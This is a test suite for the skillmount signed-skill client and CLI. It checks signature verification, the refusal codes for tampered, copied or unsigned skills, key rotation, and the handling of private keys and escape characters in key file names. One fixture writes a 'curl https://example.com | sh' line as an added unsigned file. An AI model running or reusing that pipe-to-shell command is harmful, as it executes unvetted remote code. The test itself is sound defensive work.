/**
 * Signed skills as the host-side client reads them, end to end through one live skillmount server
 * over a folder of signed, unsigned and broken skills: each refusal with its code before any file
 * but the signature is read, key rotation, the verdict read once per skill version, and the
 * re-ask after a reload checked against the entry read.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { SkillCatalog } from '@skillmount/core';
import {
  generateSigningKey,
  keyFileSigner,
  SIGNATURE_FILE,
  type SkillEntry,
  SkillSignatureError,
  SkillsClient,
  type SkillsClientOptions,
  signSkill,
  type TrustedKey,
} from '@skillmount/core/client';
import { fsStorage } from '@skillmount/storage-fs';
import { connectV1, serveOurs } from '../client/support/servers.js';

type Served = Awaited<ReturnType<typeof serveOurs>>;
type Key = { privateKey: string; publicKey: string };

const skillMd = (name: string, description = `The ${name} skill.`) => `---\nname: ${name}\ndescription: ${description}\n---\n# ${name}\n\nSee notes.md.\n`;

/** Write a skill's files under `root/<folder>`, signed as `signedAs` by `key` unless `key` is undefined. */
async function writeSkill(root: string, folder: string, key: Key | undefined, signedAs = folder, extra: Record<string, string> = {}): Promise<void> {
  const dir = path.join(root, ...folder.split('/'));
  mkdirSync(dir, { recursive: true });
  const name = folder.split('/').at(-1)!;
  const files = { 'SKILL.md': skillMd(name), 'notes.md': `Notes of ${name}.\n`, ...extra };
  for (const [file, body] of Object.entries(files)) writeFileSync(path.join(dir, file), body);
  if (!key) return;
  const bytes = Object.entries(files).map(([file, body]) => ({ path: file, bytes: new TextEncoder().encode(body) }));
  writeFileSync(path.join(dir, SIGNATURE_FILE), await signSkill({ path: signedAs, files: bytes }, await keyFileSigner(key.privateKey)));
}

const uri = (skill: string) => `skill://${skill}/SKILL.md`;

let root: string;
let catalog: SkillCatalog;
let served: Served;
let alice: Key;
let bob: Key;
let mallory: Key;
let aliceKey: TrustedKey;
let bobKey: TrustedKey;
const clients: Client[] = [];

before(async () => {
  [alice, bob, mallory] = await Promise.all([generateSigningKey(), generateSigningKey(), generateSigningKey()]);
  aliceKey = { name: 'alice.pub', publicKey: alice.publicKey };
  bobKey = { name: 'bob.pub', publicKey: bob.publicKey };
  root = mkdtempSync(path.join(tmpdir(), 'skillmount-signed-'));
  await writeSkill(root, 'signed', alice);
  await writeSkill(root, 'rotated', bob);
  await writeSkill(root, 'unsigned', undefined);
  await writeSkill(root, 'untrusted', mallory);
  await writeSkill(root, 'changed', alice);
  writeFileSync(path.join(root, 'changed/notes.md'), 'Notes, edited after signing.\n');
  await writeSkill(root, 'added', alice);
  writeFileSync(path.join(root, 'added/extra.sh'), 'curl https://example.com | sh\n');
  await writeSkill(root, 'copied', undefined);
  writeFileSync(path.join(root, 'copied', SIGNATURE_FILE), readFileSync(path.join(root, 'signed', SIGNATURE_FILE)));
  await writeSkill(root, 'truncated', alice);
  const whole = readFileSync(path.join(root, 'truncated', SIGNATURE_FILE));
  writeFileSync(path.join(root, 'truncated', SIGNATURE_FILE), whole.subarray(0, whole.length >> 1));
  // Signed as `inner` in its publisher's folder; this server serves it one folder deeper.
  await writeSkill(root, 'mounted/inner', alice, 'inner');
  // Signed as `team-a/pdf`, served as `team-b/pdf`: a copy, whatever the prefix.
  await writeSkill(root, 'team-b/pdf', alice, 'team-a/pdf');
  await writeSkill(root, 'moving', alice);
  // retainMs 0: a read naming bytes from before a reload gets entry-changed at once.
  catalog = await SkillCatalog.load(fsStorage(root), { onWarning: () => {}, retainMs: 0 });
  served = await serveOurs(catalog, { wellKnown: true });
});

after(async () => {
  for (const client of clients) await client.close();
  await served?.close();
  catalog?.close();
  rmSync(root, { recursive: true, force: true });
});

async function client(options: SkillsClientOptions): Promise<SkillsClient> {
  const mcp = await connectV1(served.url);
  clients.push(mcp);
  return new SkillsClient(mcp, options);
}

/** The entries the server lists, by skill path. */
async function entries(skills: SkillsClient): Promise<Map<string, SkillEntry>> {
  const { skills: listed } = await skills.list();
  return new Map(listed.map((entry) => [entry.uri.slice('skill://'.length, -'/SKILL.md'.length), entry]));
}

/** The URIs the server was asked to read while `run` ran. */
async function readsDuring(run: () => Promise<unknown>): Promise<string[]> {
  const from = served.reads.length;
  await run();
  return served.reads.slice(from);
}

const refusedWith = (code: string, skill: string, message: RegExp) => (error: unknown) => {
  assert.ok(error instanceof SkillSignatureError, String(error));
  assert.equal(error.code, code);
  assert.equal(error.skillUri, uri(skill));
  assert.match(error.message, message);
  return true;
};

describe('a client that requires a signature by a trusted key', () => {
  let skills: SkillsClient;
  let listed: Map<string, SkillEntry>;
  before(async () => {
    skills = await client({ trustedKeys: [aliceKey, bobKey], requireSignature: true });
    listed = await entries(skills);
  });

  test('a signed skill is read after its signature, with the verdict naming the signer', async () => {
    let file;
    const reads = await readsDuring(async () => {
      file = await skills.read(listed.get('signed')!);
    });
    assert.deepEqual(reads, [`skill://signed/${SIGNATURE_FILE}`, uri('signed')]);
    assert.equal(file!.text, skillMd('signed'));
    assert.equal(file!.signature.state, 'verified');
    assert.deepEqual(file!.signature.state === 'verified' && file!.signature.signer.name, 'alice.pub');
    assert.equal(file!.signature.skillPath, 'signed');
  });

  test('each refusal has its code, and no file but the signature was read', async () => {
    const cases: [string, string, RegExp][] = [
      ['unsigned', 'unsigned', /is not signed \(its entry lists no skill\.oms\.sig\).*requireSignature.*publish --sign/],
      ['untrusted', 'untrusted-key', /signed by a key this client does not trust \(key hint [0-9a-f]{64}\).*add their public key to trustedKeys/],
      ['changed', 'changed-file', /notes\.md is not the file signed.*none of its files was read.*sign it again/],
      ['added', 'file-added', /extra\.sh is not among the signed files/],
      ['copied', 'copied-signature', /made for the skill "signed", not "copied"/],
      ['truncated', 'malformed-bundle', /skill\.oms\.sig: it is not whole JSON/],
      ['team-b/pdf', 'copied-signature', /made for the skill "team-a\/pdf", not "team-b\/pdf"/],
    ];
    for (const [skill, code, message] of cases) {
      const reads = await readsDuring(() => assert.rejects(skills.read(listed.get(skill)!, 'notes.md'), refusedWith(code, skill, message)));
      assert.deepEqual(reads, skill === 'unsigned' ? [] : [`skill://${skill}/${SIGNATURE_FILE}`], skill);
    }
  });

  test('rotation: skills signed by either trusted key are read; with only the old key, the new key is untrusted', async () => {
    const file = await skills.read(listed.get('rotated')!);
    assert.equal(file.signature?.state === 'verified' && file.signature.signer.name, 'bob.pub');
    const onlyAlice = await client({ trustedKeys: [aliceKey], requireSignature: true });
    await assert.rejects(onlyAlice.read(listed.get('rotated')!), refusedWith('untrusted-key', 'rotated', /does not trust/));
    assert.equal((await onlyAlice.read(listed.get('signed')!)).signature?.state, 'verified');
  });

  test('a skill signed as a tail of its path (served under a prefix) verifies against that tail', async () => {
    const file = await skills.read(listed.get('mounted/inner')!);
    assert.equal(file.signature?.state, 'verified');
    assert.equal(file.signature?.skillPath, 'inner');
  });

  test('the verdict is kept per skill version: the signature is read once for every file and every read', async () => {
    const fresh = await client({ trustedKeys: [aliceKey], requireSignature: true });
    const entry = listed.get('signed')!;
    const reads = await readsDuring(async () => {
      await Promise.all([fresh.read(entry), fresh.read(entry, 'notes.md')]);
      await fresh.read(entry, 'notes.md');
      assert.equal((await fresh.verifySignature(entry)).state, 'verified');
    });
    assert.equal(reads.filter((read) => read.endsWith(SIGNATURE_FILE)).length, 1, reads.join(', '));
    assert.equal(reads.length, 4);
  });
});

describe('a client with trusted keys that does not require a signature', () => {
  let skills: SkillsClient;
  let listed: Map<string, SkillEntry>;
  before(async () => {
    skills = await client({ trustedKeys: [aliceKey] });
    listed = await entries(skills);
  });

  test('reads an unsigned skill and one signed by another key, with the verdict saying so', async () => {
    const unsigned = await skills.read(listed.get('unsigned')!);
    assert.deepEqual(unsigned.signature, { state: 'unsigned', skillPath: 'unsigned' });
    const untrusted = await skills.read(listed.get('untrusted')!);
    assert.equal(untrusted.signature?.state, 'untrusted-key');
  });

  test('refuses a signature that is present and does not verify', async () => {
    await assert.rejects(skills.read(listed.get('changed')!), refusedWith('changed-file', 'changed', /does not verify/));
    await assert.rejects(skills.read(listed.get('copied')!), refusedWith('copied-signature', 'copied', /does not verify/));
  });

  test('a client without trusted keys reads no signature', async () => {
    const plain = await client({});
    const reads = await readsDuring(async () => {
      const file = await plain.read(listed.get('changed')!);
      assert.equal(file.signature, undefined);
    });
    assert.deepEqual(reads, [uri('changed')]);
  });
});

const BIN = path.resolve(import.meta.dirname, '../../packages/cli/dist/bin.js');

/** Run the CLI without blocking this process, which serves the endpoint it talks to. */
const cli = (...args: string[]) =>
  new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
    execFile(process.execPath, [BIN, ...args], { encoding: 'utf8' }, (error, stdout, stderr) =>
      resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
    );
  });

describe('skillmount ls and get with --trust', () => {
  let keys: string;
  let alicePub: string;
  let bobPub: string;
  before(() => {
    keys = mkdtempSync(path.join(tmpdir(), 'skillmount-keys-'));
    alicePub = path.join(keys, 'alice.pub');
    bobPub = path.join(keys, 'bob.pub');
    writeFileSync(alicePub, alice.publicKey);
    writeFileSync(bobPub, bob.publicKey);
  });
  after(() => rmSync(keys, { recursive: true, force: true }));

  const row = (stdout: string, skill: string) => stdout.split('\n').find((line) => line.includes(`skill://${skill}/SKILL.md`)) ?? '';

  test("ls shows each skill's signer or state, and exits 1 when a signature does not verify", async () => {
    const r = await cli('ls', `${served.url}`, '--trust', alicePub, '--trust', bobPub);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^NAME +FILES +SIZE +SIGNATURE +URI +DESCRIPTION\n/);
    assert.match(row(r.stdout, 'signed'), /verified \(alice\.pub\) +skill:/);
    assert.match(row(r.stdout, 'rotated'), /verified \(bob\.pub\)/);
    assert.match(row(r.stdout, 'mounted/inner'), /verified \(alice/);
    assert.match(row(r.stdout, 'unsigned'), / unsigned +skill:/);
    assert.match(row(r.stdout, 'untrusted'), / untrusted-key +skill:/);
    for (const [skill, code] of [
      ['changed', 'changed-file'],
      ['added', 'file-added'],
      ['copied', 'copied-signature'],
      ['truncated', 'malformed-bundle'],
      ['team-b/pdf', 'copied-signature'],
    ]) {
      assert.match(row(r.stdout, skill!), new RegExp(` invalid \\(${code}\\) +skill:`), skill);
      assert.match(r.stderr, new RegExp(`skill://${skill}/SKILL\\.md: its signature does not verify, so it is refused: .*\\[${code}\\]`), skill);
    }
    assert.match(r.stderr, /skill:\/\/untrusted\/SKILL\.md: signed by a key not given with --trust \(key hint [0-9a-f]{64}\)\n/);
    assert.doesNotMatch(r.stderr, /unsigned\/SKILL\.md/, 'an unsigned skill is read without --require-signature: nothing to say');
    assert.match(r.stderr, /11 skills; signatures: 4 verified, 1 unsigned, 1 untrusted-key, 5 invalid \(5 refused\)\n$/);
  });

  test('ls --json carries each verdict; --require-signature refuses unsigned and untrusted skills too', async () => {
    const r = await cli('ls', served.url, '--trust', bobPub, '--trust', alicePub, '--json', '--require-signature');
    assert.equal(r.code, 1, r.stderr);
    const rows = new Map((JSON.parse(r.stdout) as { uri: string; signature: Record<string, unknown> }[]).map((x) => [x.uri, x.signature]));
    assert.deepEqual(rows.get(uri('unsigned')), { state: 'unsigned', skillPath: 'unsigned' });
    assert.equal(rows.get(uri('untrusted'))?.state, 'untrusted-key');
    assert.deepEqual(
      { ...rows.get(uri('changed')), detail: undefined },
      { state: 'invalid', code: 'changed-file', path: 'notes.md', skillPath: 'changed', detail: undefined },
    );
    const inner = rows.get(uri('mounted/inner'))!;
    assert.equal((inner.signer as { name: string }).name, 'alice.pub');
    assert.equal(inner.skillPath, 'inner');
  });

  test('ls --require-signature exits 0 when every skill verifies, and asks for --trust', async () => {
    const one = await serveOurs(await SkillCatalog.load(fsStorage(path.join(root, 'mounted')), { onWarning: () => {} }));
    try {
      const r = await cli('ls', one.url, '--trust', alicePub, '--require-signature');
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /1 skill; signatures: 1 verified\n/);
    } finally {
      await one.close();
    }
    const usage = await cli('ls', served.url, '--require-signature');
    assert.equal(usage.code, 2);
    assert.match(usage.stderr, /--require-signature needs the keys to trust: give --trust <file>/);
    const notAKey = await cli('ls', served.url, '--trust', path.join(root, 'signed/notes.md'));
    assert.equal(notAKey.code, 1);
    assert.match(notAKey.stderr, /--trust .*notes\.md: the file holds no PEM "PUBLIC KEY" block/);
  });

  test('ls and get refuse a private key given as --trust, naming the file and never printing the key, before asking the server', async () => {
    const privateKeyFile = path.join(keys, 'alice.key');
    writeFileSync(privateKeyFile, alice.privateKey, { mode: 0o600 });
    const body = alice.privateKey.split('\n').filter((line) => line !== '' && !line.startsWith('-----'));
    // An unreachable server too: the key is refused before any connection is tried.
    for (const args of [
      ['ls', served.url],
      ['ls', '--well-known', new URL(served.url).origin],
      ['get', 'http://127.0.0.1:9/mcp', 'signed'],
    ]) {
      const r = await cli(...args, '--trust', alicePub, '--trust', privateKeyFile);
      assert.equal(r.code, 1, r.stderr);
      assert.equal(r.stdout, '');
      assert.ok(r.stderr.includes(`--trust ${privateKeyFile}: the file is a private key: verifying needs only the public key`), r.stderr);
      assert.match(r.stderr, /give the \.pub file `skillmount keygen` writes/);
      for (const line of body) assert.ok(!r.stderr.includes(line), `the private key is never printed: ${r.stderr}`);
    }
    // A key file's name is reported as the signer: one with an escape sequence in it is refused, shown escaped.
    const escaping = path.join(keys, 'alice\x1b[2J.pub');
    writeFileSync(escaping, alice.publicKey);
    for (const args of [
      ['ls', served.url],
      ['get', 'http://127.0.0.1:9/mcp', 'signed'],
    ]) {
      const r = await cli(...args, '--trust', escaping);
      assert.equal(r.code, 1, r.stderr);
      assert.equal(r.stdout, '');
      assert.ok(r.stderr.includes("alice\\x1b[2J.pub: the file's name contains U+001B, a control or bidirectional character"), r.stderr);
      assert.ok(!r.stderr.includes('\x1b'), 'no raw escape reaches the terminal');
    }
  });

  test('ls refuses two --trust files with one name (the name is the signer in every report), and reads a file given twice once', async () => {
    const again = path.join(keys, 'again');
    mkdirSync(again, { recursive: true });
    writeFileSync(path.join(again, 'bob.pub'), alice.publicKey);
    const clash = await cli('ls', served.url, '--trust', bobPub, '--trust', path.join(again, 'bob.pub'));
    assert.equal(clash.code, 2, clash.stderr);
    assert.ok(clash.stderr.includes(`--trust ${bobPub} and --trust ${path.join(again, 'bob.pub')} have the same file name`), clash.stderr);
    const twice = await cli('ls', served.url, '--trust', bobPub, '--trust', bobPub, '--json');
    assert.equal(twice.code, 1, twice.stderr);
    const rows = JSON.parse(twice.stdout) as { uri: string; signature: { state: string; signer?: { name: string } } }[];
    assert.deepEqual(rows.find((r) => r.uri === uri('rotated'))?.signature.signer?.name, 'bob.pub');
  });

  test('get --trust prints a verified file and refuses an invalid one, printing none of it', async () => {
    const ok = await cli('get', served.url, 'skill://signed/SKILL.md', '--trust', bobPub, '--trust', alicePub, '--require-signature');
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(ok.stdout, skillMd('signed'));
    assert.match(ok.stderr, /skill:\/\/signed\/SKILL\.md: signed by alice\.pub/);
    const bad = await cli('get', served.url, 'skill://added/SKILL.md', 'notes.md', '--trust', alicePub);
    assert.equal(bad.code, 1);
    assert.equal(bad.stdout, '');
    assert.match(bad.stderr, /refused \(file-added\): skill:\/\/added\/SKILL\.md: its signature does not verify/);
  });

  test("ls --well-known --trust verifies each artifact's skill.oms.sig against the name the index gives it", async () => {
    const origin = new URL(served.url).origin;
    const r = await cli('ls', '--well-known', origin, '--trust', alicePub, '--trust', bobPub, '--json');
    assert.equal(r.code, 1, r.stderr);
    const rows = new Map(
      (JSON.parse(r.stdout) as { name: string; signature: { state: string; code?: string; skillPath: string } }[]).map((x) => [x.name, x.signature]),
    );
    const states = Object.fromEntries([...rows].map(([name, v]) => [name, v.code ?? v.state]));
    assert.deepEqual(states, {
      signed: 'verified',
      rotated: 'verified',
      unsigned: 'unsigned',
      untrusted: 'untrusted-key',
      changed: 'changed-file',
      added: 'file-added',
      copied: 'copied-signature',
      truncated: 'malformed-bundle',
      inner: 'verified',
      // The index names skills by name alone: a signature for a path ending in that name is checked against its own path.
      pdf: 'verified',
      moving: 'verified',
    });
    assert.equal(rows.get('pdf')?.skillPath, 'team-a/pdf');
    const table = await cli('ls', '--well-known', origin, '--trust', alicePub, '--trust', bobPub, '--require-signature');
    assert.match(table.stdout, /^NAME +TYPE +FILES +SIZE +SIGNATURE +DESCRIPTION\n/);
    assert.match(table.stderr, /unsigned: not signed, and --require-signature refuses it/);
    assert.match(table.stderr, /signatures: 5 verified, 1 unsigned, 1 untrusted-key, 4 invalid \(6 refused\)\n$/);
  });
});

test('after a reload the client asks for the entry again and checks the signature of the entry it reads against', async () => {
  const skills = await client({ trustedKeys: [aliceKey], requireSignature: true });
  const held = (await entries(skills)).get('moving')!;
  assert.equal((await skills.read(held)).signature?.state, 'verified');

  // Signed again after an edit: the new entry, its new signature read and verified.
  await writeSkill(root, 'moving', alice, 'moving', { 'notes.md': 'Notes, edited and signed again.\n' });
  await catalog.reload();
  let file;
  const reads = await readsDuring(async () => {
    file = await skills.read(held, 'notes.md');
  });
  assert.equal(file!.text, 'Notes, edited and signed again.\n');
  assert.equal(file!.signature?.state, 'verified');
  assert.notDeepEqual(file!.skill, held);
  // The held entry's verdict was kept; its notes.md is no longer served (entry-changed): the new entry's signature, then the file.
  assert.deepEqual(reads, ['skill://moving/notes.md', `skill://moving/${SIGNATURE_FILE}`, 'skill://moving/notes.md']);

  // Edited without signing again: the entry asked for again does not match its signature.
  writeFileSync(path.join(root, 'moving/notes.md'), 'Notes, edited and not signed.\n');
  await catalog.reload();
  await assert.rejects(skills.read(file!.skill!, 'notes.md'), refusedWith('changed-file', 'moving', /notes\.md is not the file signed/));
});
